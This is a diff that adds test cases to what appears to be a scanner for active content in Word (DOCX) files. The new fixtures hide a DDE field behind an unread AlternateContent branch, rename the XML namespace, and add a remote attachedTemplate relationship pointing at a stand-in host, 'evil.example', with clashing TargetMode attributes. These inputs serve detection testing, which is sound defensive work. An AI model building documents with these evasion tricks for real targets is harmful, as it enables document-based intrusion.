@@ -320,7 +320,36 @@ describe('active content of a DOCX', () => {
       'fields',
       () =>
         wordPackage({
-          parts: [{ name: 'word/document.xml', data: wordXml('document', field('dde x')).replaceAll('w:', 'q:') }],
+          parts: [
+            {
+              name: 'word/document.xml',
+              data: wordXml('document', field('dde x')).replaceAll('w:', 'q:').replace('xmlns:w', 'xmlns:q'),
+            },
+          ],
+        }),
+    ],
+    [
+      'with DDE behind an end in a branch that is not read',
+      'fields',
+      () =>
+        wordPackage({
+          body: field('DDE x').replace(
+            '<w:r><w:instrText',
+            '<y:AlternateContent xmlns:y="y"><y:Choice><w:fldChar w:fldCharType="end"/></y:Choice></y:AlternateContent><w:r><w:instrText',
+          ),
+        }),
+    ],
+    [
+      'with two targets of one relation',
+      'unreadable',
+      () =>
+        wordPackage({
+          parts: [
+            {
+              name: 'word/_rels/settings.xml.rels',
+              data: '<Relationships><Relationship xmlns:y="y" y:TargetMode="Internal" TargetMode="External" Type="a/attachedTemplate" Target="https://evil.example/"/></Relationships>',
+            },
+          ],
         }),
     ],
     [
